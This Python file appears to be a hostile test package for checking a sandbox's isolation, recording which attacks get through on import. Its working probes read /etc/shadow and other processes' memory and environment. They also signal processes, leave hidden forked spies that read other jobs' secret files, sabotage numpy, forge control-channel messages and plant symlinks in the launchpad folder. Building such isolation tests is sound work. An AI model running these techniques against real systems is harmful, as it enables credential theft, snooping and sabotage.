"""A package that misbehaves when it is imported. Scripts import it to see what came of that.

Beside it lies what an attacker could have found out elsewhere, and which kind of evil it is.
"""

import contextlib
import ctypes
import errno
import json
import mmap
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
with open(f"{HERE}/evil.json") as file:
    facts = json.load(file)

libc = ctypes.CDLL(None, use_errno=True)

# Where code of a package ran.
deliveries = []
# What came of each attack: "through", or the error's name.
results = {}
# What it found.
found = {}
# Kept open, mapped, running.
kept = {}


def deliver(how):
    deliveries.append(how)
    # What is raised in a .pth file does not end the interpreter.
    if how == ("optional" if facts["kind"] == "raises" else "pth"):
        globals()[facts["kind"]]()
    if how == "library" and os.path.exists(f"{HERE}/libevil.so"):
        library = ctypes.CDLL(f"{HERE}/libevil.so")
        found["library"] = ctypes.c_char.in_dll(library, "evil_text")
        found["library"] = ctypes.string_at(ctypes.addressof(found["library"])).decode()


def attack(name, act, *arguments):
    try:
        value = act(*arguments)
    except OSError as error:
        results[name] = errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        results[name] = f"{type(error).__name__}: {error}"
    else:
        results[name] = "through"
        found[name] = value


def checked(result):
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def read(path):
    with open(path, "rb") as file:
        return file.read(10000).decode(errors="replace")


def write(path):
    with open(path, "a") as file:
        file.write("evil")


def attacks():
    """All at once."""
    files()
    processes()
    sockets()
    programs()
    found["environment"] = dict(os.environ)
    found["descriptors"] = [os.readlink(f"/proc/self/fd/{n}") for n in open_descriptors()]


def files():
    for path in [*facts["files"], "/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow"]:
        attack(f"read {path}", read, path)
    for path in [*facts["folders"], "/root", "/proc/1/cwd", "/proc/1/fd", "/proc/1/root"]:
        attack(f"list {path}", os.listdir, path)
    for path in ["/etc/passwd", "/etc/hostname", "/proc/self/mountinfo"]:
        attack(f"look at {path}", read, path)
    for folder in [
        *facts["folders"],
        HERE,
        "/var/tmp",
        "/etc",
        "/usr/lib",
        "/dev",
        "/dev/shm",
        "/",
    ]:
        attack(f"write {folder}", write, f"{folder}/{facts['mark']}")
    for folder in facts["writable"]:
        attack(f"may write {folder}", write, f"{folder}/{facts['mark']}")


def processes():
    attack("look at /proc", os.listdir, "/proc")
    for pid in [name for name in found.get("look at /proc", ()) if name.isdigit()]:
        attack(f"look at /proc/{pid}/cmdline", read, f"/proc/{pid}/cmdline")
    for pid in [*facts["processes"], os.getppid()]:
        for number in (0, signal.SIGSTOP, signal.SIGTERM):
            # A keeper is init to those in its namespaces: it may be asked for, and not be ended.
            if pid != 1 or number:
                attack(f"signal {number} to {pid}", signalled, pid, number)
        for name in ("environ", "cmdline", "mem", "maps"):
            if pid != 1 or name != "cmdline":
                attack(f"read /proc/{pid}/{name}", read, f"/proc/{pid}/{name}")


def signalled(pid, number):
    os.kill(pid, number)
    # The kernel lets a namespace's init ignore it.
    if pid == 1:
        raise OSError(errno.EPERM, "ignored")


def sockets():
    def connected(family, address):
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(2)
            one.connect(address)

    for path in facts["locals"]:
        attack(f"connect to {path}", connected, socket.AF_UNIX, path)
    attack("connect to an abstract name", connected, socket.AF_UNIX, "\0" + facts["abstract"])
    attack("connect to a port", connected, socket.AF_INET, ("127.0.0.1", facts["tcp"]))
    for name in ("AF_INET", "AF_INET6", "AF_NETLINK", "AF_VSOCK", "AF_PACKET"):
        attack(f"make {name}", socket.socket, getattr(socket, name), socket.SOCK_DGRAM)


def programs():
    def ran(act):
        status = act()
        if status != 0:
            raise PermissionError(errno.EACCES, f"status {status}")

    def executed():
        child = os.fork()
        if child == 0:
            with contextlib.suppress(OSError):
                os.execve("/bin/true", ["true"], {})
            os._exit(99)
        return os.waitpid(child, 0)[1]

    def spawned():
        return os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)[1]

    def from_memory():
        fd = os.memfd_create("program")
        with open("/bin/true", "rb") as program, open(fd, "wb", closefd=False) as memory:
            shutil.copyfileobj(program, memory)
        return subprocess.call([f"/proc/self/fd/{fd}"], pass_fds=[fd])

    def own(folder):
        path = f"{folder}/{facts['mark']}-program"
        shutil.copyfile("/bin/true", path)
        os.chmod(path, 0o700)
        return subprocess.call([path])

    attack("run by a shell", ran, lambda: os.system("true"))
    attack("run", ran, lambda: subprocess.call(["/bin/true"]))
    attack("run by fork and exec", ran, executed)
    attack("run by posix_spawn", ran, spawned)
    attack("run from memory", ran, from_memory)
    for folder in facts["writable"]:
        attack(f"run from {folder}", ran, lambda folder=folder: own(folder))


# Kinds that an environment does not start with, or not for long.


def thread():
    kept["thread"] = threading.Thread(target=time.sleep, args=(1e6,), daemon=True)
    kept["thread"].start()


def open_file():
    kept["file"] = open(f"{HERE}/evil.json")


def open_pipe():
    kept["pipe"] = os.pipe()


def open_pair():
    kept["pair"] = socket.socketpair()


def exits():
    os._exit(7)


def leaves():
    sys.exit("leaving so soon")


def crashes():
    ctypes.string_at(0)


def raises():
    raise RuntimeError("not on this machine")


def sleeps():
    time.sleep(1e6)


def floods():
    for number in range(100_000):
        os.write(number % 2 + 1, b"evil flood " * 9 + b"\n")


def closes_channel():
    os.close(3)
    time.sleep(1e6)


def speaks_early():
    socket.socket(fileno=3).send(b"\xff" * 100)
    time.sleep(1e6)


def forks():
    """Leaves a process behind."""
    if os.fork() == 0:
        while True:
            time.sleep(1e6)


def once_at_a_fork(act):
    """Later than anybody looks: when the first satellite is forked."""
    done = []

    def before():
        if not done:
            done.append(act())

    os.register_at_fork(before=before)
    return done


def forks_later():
    """Likewise."""

    def leave():
        # Not Python's own, which would come here again.
        if libc.fork() == 0:
            while True:
                time.sleep(1e6)

    once_at_a_fork(leave)


# What satellites have in common.


def memory():
    """Maps what stays shared after a fork, in all ways."""

    def mapped(fd):
        # Not Python's own, which keeps a descriptor.
        os.ftruncate(fd, mmap.PAGESIZE)
        libc.mmap.restype = ctypes.c_void_p
        access = mmap.PROT_READ | mmap.PROT_WRITE
        page = ctypes.c_size_t(mmap.PAGESIZE)
        address = libc.mmap(None, page, access, mmap.MAP_SHARED, fd, ctypes.c_long(0))
        os.close(fd)
        if address == ctypes.c_void_p(-1).value:
            checked(-1)
        return (ctypes.c_char * mmap.PAGESIZE).from_address(address)

    def of_file(path):
        return mapped(os.open(path, os.O_RDWR | os.O_CREAT, 0o600))

    def of_memory_file():
        return mapped(os.memfd_create("shared"))

    def of_system_v():
        libc.shmat.restype = ctypes.c_void_p
        number = checked(libc.shmget(0, ctypes.c_size_t(mmap.PAGESIZE), 0o1600))
        address = libc.shmat(number, None, 0)
        return (ctypes.c_char * mmap.PAGESIZE).from_address(address)

    def of_posix():
        from multiprocessing import shared_memory

        return shared_memory.SharedMemory(create=True, size=mmap.PAGESIZE).buf

    ways = {
        "anonymous": lambda: mmap.mmap(-1, mmap.PAGESIZE),
        "memory file": of_memory_file,
        "System V": of_system_v,
        "POSIX": of_posix,
    }
    for number, folder in enumerate(facts["writable"]):
        path = f"{folder}/{facts['mark']}-shared"
        ways[f"file {number}"] = lambda path=path: of_file(path)
    for name, make in ways.items():
        attack(name, make)
        kept[name] = found.pop(name, None)
    # Private memory is for comparison: each has its own.
    kept["private"] = bytearray(mmap.PAGESIZE)


def memory_later():
    """Not until the first fork."""

    def before():
        if not kept:
            memory()

    os.register_at_fork(before=before)


def leave(text):
    """In a script: in all memory and files that may be shared."""
    bytes = text.encode()
    for shared in kept.values():
        if shared is not None:
            with contextlib.suppress(Exception):
                shared[: len(bytes)] = bytes
    for folder in facts["writable"]:
        with contextlib.suppress(OSError):
            with open(f"{folder}/{facts['mark']}-left", "w") as file:
                file.write(text)


def look_for(text):
    """In a script: the names of what another one has left it in."""
    seen = []
    for name, shared in kept.items():
        if shared is not None and bytes(shared[: len(text)]) == text.encode():
            seen.append(name)
    for folder in facts["writable"]:
        for name in ("left", "shared"):
            with contextlib.suppress(OSError):
                if text in read(f"{folder}/{facts['mark']}-{name}"):
                    seen.append(f"{name} in {folder}")
    return seen


def open_descriptors():
    """In a script."""
    there = []
    for number in range(256):
        with contextlib.suppress(OSError):
            os.fstat(number)
            there.append(number)
    return there


def changed_numpy():
    """Functions of it are wrong for scripts; whoever loads the packages needs them."""
    import numpy

    def changed(original, other):
        def function(*given, **options):
            by_script = sys._getframe(1).f_code.co_filename == "<script>"
            return (other if by_script else original)(*given, **options)

        return function

    numpy.array = changed(numpy.array, lambda *_: [6, 6, 6])
    numpy.ones = changed(numpy.ones, lambda *_: 1 // 0)


# Between forks.


def hooks():
    """Code that the zygote runs whenever it forks."""

    def before():
        results["forks"] = results.get("forks", 0) + 1
        files()
        processes()
        sockets()
        kept.setdefault("left", []).append(open(f"{HERE}/evil.json"))
        kept["left"] += os.pipe()
        peers()

    def in_child():
        global results
        forked, results = results, {}
        files()
        processes()
        sockets()
        # What a satellite may write is its own.
        own = {name: came for name, came in results.items() if not name.startswith("write ")}
        results = forked | {f"in child: {name}": came for name, came in own.items()}

    os.register_at_fork(before=before, after_in_child=in_child)


def peers():
    """What there is to see of the zygote's satellites: their memory and their files."""
    for name in [name for name in results if name.startswith("satellite")]:
        del results[name]
    with contextlib.suppress(OSError):
        for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
            if int(pid) in (1, os.getpid()):
                continue
            for name in ("mem", "environ", "maps"):
                with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb"):
                    results[f"satellite {pid}: {name}"] = "through"
            for name in ("root", "cwd", "fd"):
                with contextlib.suppress(OSError):
                    os.listdir(f"/proc/{pid}/{name}")
                    results[f"satellite {pid}: {name}"] = "through"
            with contextlib.suppress(OSError):
                if read(f"/proc/{pid}/cwd/mine") == facts["secret"]:
                    results["satellites: a script's file"] = "through"
    for folder in facts["writable"]:
        for top, _, names in os.walk(folder):
            for name in names:
                with contextlib.suppress(OSError):
                    text = read(f"{top}/{name}")
                    if facts["secret"] in text:
                        results["satellites: a script's file"] = "through"


def spies():
    """A process that is left behind waits for satellites on their way, and keeps what is open."""

    def begin():
        reading, writing = os.pipe()
        os.set_blocking(reading, False)
        if libc.fork() == 0:
            watch(writing)
        os.close(writing)
        return reading

    begun = once_at_a_fork(begin)

    def before():
        with contextlib.suppress(OSError, IndexError):
            results["seen"] = results.get("seen", "") + os.read(begun[0], 4096).decode()

    os.register_at_fork(before=before)


def watch(writing):
    """Tells what it reads through the folders of others."""
    folders = {}
    seen = set()
    while True:
        try:
            there = [name for name in os.listdir("/proc") if name.isdigit()]
        except OSError:
            time.sleep(1e6)
        for pid in there:
            for way in ("root/job", "cwd"):
                with contextlib.suppress(OSError):
                    if (pid, way) not in folders:
                        path = f"/proc/{pid}/{way}"
                        if way == "root/job" or os.readlink(path) == "/job":
                            folders[pid, way] = os.open(path, os.O_DIRECTORY)
        for name, folder in folders.items():
            with contextlib.suppress(OSError):
                fd = os.open("mine", os.O_RDONLY, dir_fd=folder)
                text = os.read(fd, 100).decode()
                os.close(fd)
                if text not in seen:
                    seen.add(text)
                    os.write(writing, f"{text} by {name}; ".encode())


def garbage():
    """After a few forks the zygote says what no zygote says."""

    def after():
        results["forks"] = results.get("forks", 0) + 1
        if results["forks"] == facts["after"]:
            channel = socket.socket(fileno=os.dup(3))
            channel.send(b"\xff" * 200)
            channel.close()

    os.register_at_fork(after_in_parent=after)


def forged(variant, rest=b"", process=None, rounds=1, times=1):
    """At each fork, something said of every order that there may be, beside it a process."""

    def before():
        results["forks"] = results.get("forks", 0) + 1
        descriptors = [] if process is None else [os.pidfd_open(process)] * times
        rights = struct.pack(f"{len(descriptors)}i", *descriptors)
        beside = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)] if descriptors else []
        with socket.socket(fileno=os.dup(3)) as channel:
            for order in list(range(1000)) * rounds:
                # As numbers are written there.
                low, high = order & 0x7F, order >> 7
                number = [low | 0x80, high] if high else [low]
                super(socket.socket, channel).sendmsg([bytes([variant, *number]) + rest], beside)
                results["said"] = order
                if order == 0:
                    time.sleep(0.1 * (rounds - 1) / rounds)
        for descriptor in descriptors:
            os.close(descriptor)

    os.register_at_fork(before=before)


def forged_init():
    """Another process is said to be a satellite's: it would be settled, and ended at the end."""
    forged(1, process=facts["taken"])


def forged_own_init():
    forged(1, process=os.getpid())


def forged_parent():
    forged(1, process=os.getppid())


def forged_refusals():
    """As if no satellite could be forked, of this environment or another one."""
    forged(2, b"\x04evil\x04evil", rounds=40)


def forged_crowd():
    """More descriptors than any message brings, and more than there is room for."""
    forged(1, process=os.getpid(), times=200)


def forged_mapping():
    forged(4, process=os.getpid())


# In the launchpad's own folder, where a zygote without namespaces may write.


def renamed(old, new):
    checked(libc.renameat2(-100, old.encode(), -100, new.encode(), 0))


def leads_astray():
    """Puts a link where the launchpad makes folders, and removes them."""
    folder = facts["launchpad"]
    attack("rename scratch", renamed, f"{folder}/scratch", f"{folder}/{facts['mark']}-scratch")
    attack("link scratch", os.symlink, facts["victim"], f"{folder}/scratch")


def hides_socket():
    folder = facts["launchpad"]
    attack("hide", renamed, f"{folder}/launchpad.sock", f"{folder}/{facts['mark']}-hidden")
    attack("remove", os.unlink, f"{folder}/launchpad.sock")
    attack("replace", write, f"{folder}/launchpad.sock")
